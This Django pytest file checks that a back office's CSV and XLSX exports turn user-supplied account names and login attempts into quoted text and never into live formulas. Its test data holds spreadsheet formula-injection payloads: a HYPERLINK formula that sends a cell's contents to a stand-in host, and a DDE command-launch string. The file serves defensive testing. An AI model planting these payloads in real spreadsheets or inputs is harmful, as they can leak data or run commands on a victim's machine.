"""Formula injection through the exports: what one user types must never run in the
spreadsheet of the colleague who downloads it.

A unit officer imports accounts whose names are formulas (one that would send the sheet's
first cell to another host); the provider then downloads the unit's accounts. A visitor types
formulas as logins on the login page; the auditor then downloads the audit log. The
downloads must hold no formula, only quoted text, whatever separator the spreadsheet expects.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from govid.backoffice.staff import grant
from govid.directory.provision import add_account, add_unit
from tests.backoffice.conftest import DOMAIN, World

pytestmark = pytest.mark.django_db

NAMES = ['=HYPERLINK("http://x/?"&A1,"y")', "+1", "@SUM(1)", "-2+3", "=cmd|' /C calc'!A0"]
SPLIT = "x;=1+1"  # a cell of its own to a spreadsheet that expects ";" between cells


@pytest.fixture
def office(units) -> World:
    """A unit, its officer, the provider's administrator and an auditor."""
    add_unit("MYTU-HHN", name="UBND thị trấn Huỳnh Hữu Nghĩa", parent="MYTU", actor="test")
    logins = {}
    for who, role, codes in (
        ("officer", "unit_officer", ["MYTU-HHN"]),
        ("provider", "provider_admin", []),
        ("auditor", "auditor", []),
    ):
        login = f"{who}@{DOMAIN}"
        add_account(login, name=f"Cán bộ {who}", unit="MYTU-HHN", actor="test")
        grant(login, role=role, units=codes, actor="test")
        logins[who] = login
    return World(logins=logins)


def officer_imports(office: World, names: list[str]) -> None:
    """The officer's list of new accounts, through the back office's import pages."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["email", "name", "unit", "phone"])
    for i, name in enumerate(names):
        writer.writerow([f"moi.{i}", name, "MYTU-HHN", f"0912 000 {i:03d}"])
    upload = io.BytesIO(out.getvalue().encode())
    upload.name = "danh-sach.csv"
    officer = office.client("officer")
    location = officer.post("/van-phong/nhap/", {"file": upload}).headers["Location"]
    assert officer.get(location).status_code == 200  # the preview finds nothing wrong
    assert officer.post(location + "cap-nhat/").status_code == 302


def test_names_an_officer_imports_are_text_in_the_providers_export(office):
    officer_imports(office, [*NAMES, SPLIT])
    export = office.client("provider").get("/van-phong/tai-khoan/xuat.xlsx?unit=MYTU-HHN")
    assert export.status_code == 200
    sheet = load_workbook(io.BytesIO(export.content)).active
    assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
    names = {row[0]: row[1] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert [names[f"moi.{i}@{DOMAIN}"] for i in range(len(NAMES))] == ["'" + n for n in NAMES]
    assert names[f"moi.{len(NAMES)}@{DOMAIN}"] == SPLIT


def test_logins_a_visitor_types_are_text_in_the_auditors_export(office):
    visitor = Client()
    for typed in [*NAMES, SPLIT]:
        assert visitor.post("/", {"username": typed, "password": "doan-thu"}).status_code == 400
    content = office.client("auditor").get("/van-phong/nhat-ky.csv?action=login_failed").content
    text = content.decode("utf-8-sig")
    subjects = [row[4] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    assert len(subjects) == len(NAMES) + 1
    assert all(s.startswith("'") for s in subjects if s != SPLIT.lower())
    assert f'"{SPLIT.lower()}"' in text  # the ";" stays inside its quoted cell
